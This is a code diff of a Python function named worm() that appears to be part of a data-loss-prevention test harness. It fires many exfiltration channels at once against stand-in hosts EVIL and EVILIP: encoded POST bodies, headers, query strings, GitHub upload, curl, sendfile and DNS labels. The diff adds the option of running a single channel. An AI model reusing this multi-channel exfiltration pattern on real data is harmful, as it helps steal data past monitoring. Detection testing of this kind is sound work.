@@ -131,15 +131,22 @@ def raw(chan, host):
 
 
 def worm():
-    jobs = [lambda: one("post-b64", "POST", "/py-post-b64", base64.b64encode(J)),
-            lambda: one("post-gzip", "POST", "/py-post-gzip", gzip.compress(J),
-                        {"Content-Encoding": "gzip"}),
-            lambda: one("header", "GET", "/py-header", None,
-                        {"X-Debug-Data": base64.b64encode(J).decode()}),
-            lambda: one("query", "GET", "/py-query?d=" + urllib.parse.quote(base64.b64encode(J))),
-            split, github, curl, sendfile, dnslabels,
-            lambda: raw("raw-name", EVIL), lambda: raw("raw-ip", EVILIP)]
-    ts = [threading.Thread(target=j) for j in jobs]
+    jobs = [("post-b64", lambda: one("post-b64", "POST", "/py-post-b64", base64.b64encode(J))),
+            ("post-gzip", lambda: one("post-gzip", "POST", "/py-post-gzip", gzip.compress(J),
+                                      {"Content-Encoding": "gzip"})),
+            ("header", lambda: one("header", "GET", "/py-header", None,
+                                   {"X-Debug-Data": base64.b64encode(J).decode()})),
+            ("query", lambda: one("query", "GET", "/py-query?d=" + urllib.parse.quote(base64.b64encode(J)))),
+            ("split", split), ("github-upload", github), ("curl", curl),
+            ("sendfile", sendfile), ("sendfile-plain", sendfile), ("dns", dnslabels),
+            ("raw-name", lambda: raw("raw-name", EVIL)), ("raw-ip", lambda: raw("raw-ip", EVILIP))]
+    # DLP_T_WORM_ONLY=py-CHANNEL: that channel alone (the test's one-session-per-channel runs)
+    only = os.environ.get("DLP_T_WORM_ONLY", "")
+    if only:
+        jobs = [(n, f) for n, f in jobs if "py-" + n == only]
+    else:
+        jobs = [(n, f) for n, f in jobs if n != "sendfile-plain"]   # sendfile() does both
+    ts = [threading.Thread(target=f) for _, f in jobs]
     for t in ts:
         t.start()
     for t in ts:
